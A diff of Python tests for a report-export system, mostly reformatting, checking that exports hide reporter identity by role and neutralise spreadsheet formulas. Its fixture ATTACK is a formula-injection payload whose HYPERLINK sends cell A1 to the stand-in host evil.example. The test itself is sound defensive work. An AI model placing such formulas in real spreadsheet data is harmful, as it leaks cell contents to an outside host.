@@ -16,11 +16,28 @@ ATTACK = '=HYPERLINK("http://evil.example/"&A1,"lihat foto")'
 
 
 def _reports(session: Session, settings: Settings) -> None:
-    submit(session=session, channel="hotline", lat=-0.42, lon=117.0, description=ATTACK,
-           reporter_name="Budi Santoso", reporter_phone="0812-3333-4444",
-           confidentiality="anonim", settings=settings, match=False)
-    submit(session=session, channel="lapor", lat=-0.5, lon=117.1, external_id="LAPOR-77",
-           description="alat berat di sungai", settings=settings, match=False)
+    submit(
+        session=session,
+        channel="hotline",
+        lat=-0.42,
+        lon=117.0,
+        description=ATTACK,
+        reporter_name="Budi Santoso",
+        reporter_phone="0812-3333-4444",
+        confidentiality="anonim",
+        settings=settings,
+        match=False,
+    )
+    submit(
+        session=session,
+        channel="lapor",
+        lat=-0.5,
+        lon=117.1,
+        external_id="LAPOR-77",
+        description="alat berat di sungai",
+        settings=settings,
+        match=False,
+    )
     session.flush()
 
 
@@ -28,8 +45,9 @@ def test_an_analyst_export_has_no_identity_and_no_live_formula(
     session: Session, settings: Settings, tmp_path: Path
 ) -> None:
     _reports(session, settings)
-    out = export_reports(session=session, path=tmp_path / "laporan.xlsx", role="analyst",
-                         settings=settings)
+    out = export_reports(
+        session=session, path=tmp_path / "laporan.xlsx", role="analyst", settings=settings
+    )
     assert out.rows == 2
     sheet = openpyxl.load_workbook(out.path).active
     cells = [c for row in sheet.iter_rows() for c in row]
@@ -45,13 +63,15 @@ def test_a_partner_gets_anonim_reports_only_and_operators_get_identity(
     session: Session, settings: Settings, tmp_path: Path
 ) -> None:
     _reports(session, settings)
-    partner = export_reports(session=session, path=tmp_path / "mitra.csv", role="partner",
-                             settings=settings)
+    partner = export_reports(
+        session=session, path=tmp_path / "mitra.csv", role="partner", settings=settings
+    )
     with partner.path.open(newline="", encoding="utf-8") as fh:
         rows = list(csv.DictReader(fh))
     assert len(rows) == 1 and "LAPOR-77" not in str(rows)  # the rahasia LAPOR! ticket stays in
-    operator = export_reports(session=session, path=tmp_path / "op.csv", role="operator",
-                              settings=settings)
+    operator = export_reports(
+        session=session, path=tmp_path / "op.csv", role="operator", settings=settings
+    )
     with operator.path.open(newline="", encoding="utf-8") as fh:
         named = {r["reporter_name"] for r in csv.DictReader(fh)}
     assert "Budi Santoso" in named
@@ -71,13 +91,15 @@ def test_an_export_imports_back_as_the_same_reports(
         _reports(session, settings)
         session.commit()
         # The operator's export carries the identity, so each row is the same report.
-        out = export_reports(session=session, path=tmp_path / "kembali.csv", role="operator",
-                             settings=settings)
+        out = export_reports(
+            session=session, path=tmp_path / "kembali.csv", role="operator", settings=settings
+        )
     with out.path.open(newline="", encoding="utf-8") as fh:
         cells = [c for row in csv.reader(fh) for c in row]
     assert "'" + ATTACK in cells  # guarded on the way out ...
-    summary = import_file(engine=engine, path=out.path, settings=settings, progress=False,
-                          match=False)
+    summary = import_file(
+        engine=engine, path=out.path, settings=settings, progress=False, match=False
+    )
     # ... and read back exactly: every row is recognised as a report already stored.
     assert summary.rows >= 2 and summary.inserted == 0 and not summary.rejected
     assert summary.unknown_columns == []  # the export's own columns are known
